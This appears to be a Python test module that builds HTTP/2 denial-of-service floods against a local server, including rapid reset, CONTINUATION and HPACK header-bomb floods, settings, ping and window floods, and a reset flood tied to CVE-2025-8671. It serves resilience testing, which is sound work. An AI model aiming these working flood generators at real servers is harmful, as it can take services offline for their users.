"""Floods of HTTP/2: many frames that cost the client nothing. Each is the pieces that one connection sends."""

from collections.abc import Callable, Iterator

import h2.config
import h2.connection

HEADERS = [(b":method", b"GET"), (b":path", b"/bucket/k"), (b":scheme", b"http"), (b":authority", b"localhost")]
UPLOAD = [(b":method", b"PUT"), *HEADERS[1:]]


def client() -> h2.connection.H2Connection:
    made = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding=None))
    made.initiate_connection()
    return made


def frame(kind: int, stream: int, body: bytes = b"", flags: int = 0) -> bytes:
    return len(body).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + body


def rapid_reset(many: int) -> Iterator[bytes]:
    made = client()
    for number in range(many):
        made.send_headers(2 * number + 1, HEADERS, end_stream=True)
        made.reset_stream(2 * number + 1)
        yield made.data_to_send()


def many_streams(many: int) -> Iterator[bytes]:
    made = client()
    block = made.encoder.encode(UPLOAD)  # that never end
    yield made.data_to_send()
    for number in range(many):
        yield frame(1, 2 * number + 1, block, 4)


def header_bomb(many: int) -> Iterator[bytes]:
    """One header, put into the table once and named ten thousand times."""
    made = client()
    large = made.encoder.encode([*HEADERS, (b"x", b"y" * 4000)])
    yield made.data_to_send()
    yield frame(1, 1, large + b"\xbe" * 10_000, 4)
    for _ in range(99):
        yield frame(9, 1, b"\xbe" * 9000)


def in_one_block(first: bytes, *further: bytes) -> Callable[[int], Iterator[bytes]]:
    def flood(many: int) -> Iterator[bytes]:
        yield client().data_to_send() + frame(1, 1, first)
        for number in range(many):
            yield frame(9, 1, further[number % len(further)])

    return flood


def control(*frames: bytes) -> Callable[[int], Iterator[bytes]]:
    def flood(many: int) -> Iterator[bytes]:
        yield client().data_to_send()
        for number in range(many):
            yield frames[number % len(frames)]

    return flood


def priorities(many: int) -> Iterator[bytes]:
    yield client().data_to_send()
    for number in range(many):
        yield frame(2, 2 * number + 1, b"\0\0\0\0\1")


def on_a_stream(*frames: bytes) -> Callable[[int], Iterator[bytes]]:
    """After the head of an upload on stream 1, that does not end."""

    def flood(many: int) -> Iterator[bytes]:
        made = client()
        made.send_headers(1, UPLOAD)
        yield made.data_to_send()
        for number in range(many):
            yield frames[number % len(frames)]

    return flood


def made_to_reset(many: int) -> Iterator[bytes]:
    """Streams that the server itself must reset: a window beyond 2**31 (CVE-2025-8671)."""
    made = client()
    block = made.encoder.encode(UPLOAD)
    yield made.data_to_send()
    for number in range(many):
        yield frame(1, 2 * number + 1, block, 4) + frame(8, 2 * number + 1, b"\x7f\xff\xff\xff")


def on_a_reset_stream(many: int) -> Iterator[bytes]:
    """Trailers, again and again, for a request that was given up."""
    made = client()
    made.send_headers(1, UPLOAD)
    made.reset_stream(1)
    yield made.data_to_send()
    for _ in range(many):
        yield frame(1, 1, b"\x82", 5)


FLOODS: dict[str, Callable[[int], Iterator[bytes]]] = {
    "rapid reset": rapid_reset,
    "many streams": many_streams,
    "made to reset": made_to_reset,
    "header bomb": header_bomb,
    "continuations": in_one_block(b"\x82", b"\x82"),
    "empty continuations": in_one_block(b"", b""),
    "settings": control(frame(4, 0, b"\0\4\0\0\1\1")),
    "long settings": control(frame(4, 0, b"\0\4\0\0\1\1" * 2700)),
    "acknowledged settings": control(frame(4, 0, b"", 1)),
    "pings": control(frame(6, 0, b"x" * 8)),
    "answers to pings": control(frame(6, 0, b"x" * 8, 1)),
    "priorities": priorities,
    "unknown frames": control(frame(0x10, 0, b"\0\0\0\1u=1"), frame(0xFA, 0)),
    "resets of nothing": on_a_stream(frame(3, 3, b"\0\0\0\x08")),
    "windows": control(frame(8, 0, b"\0\0\0\1")),
    "windows of a stream": on_a_stream(frame(8, 1, b"\0\0\0\1")),
    "empty data": on_a_stream(frame(0, 1)),
    "data of padding": on_a_stream(frame(0, 1, b"\1\0", 8)),
    "data byte by byte": on_a_stream(frame(0, 1, b"x")),
    "data for nothing": control(frame(0, 1)),
    "trailers": on_a_reset_stream,
}
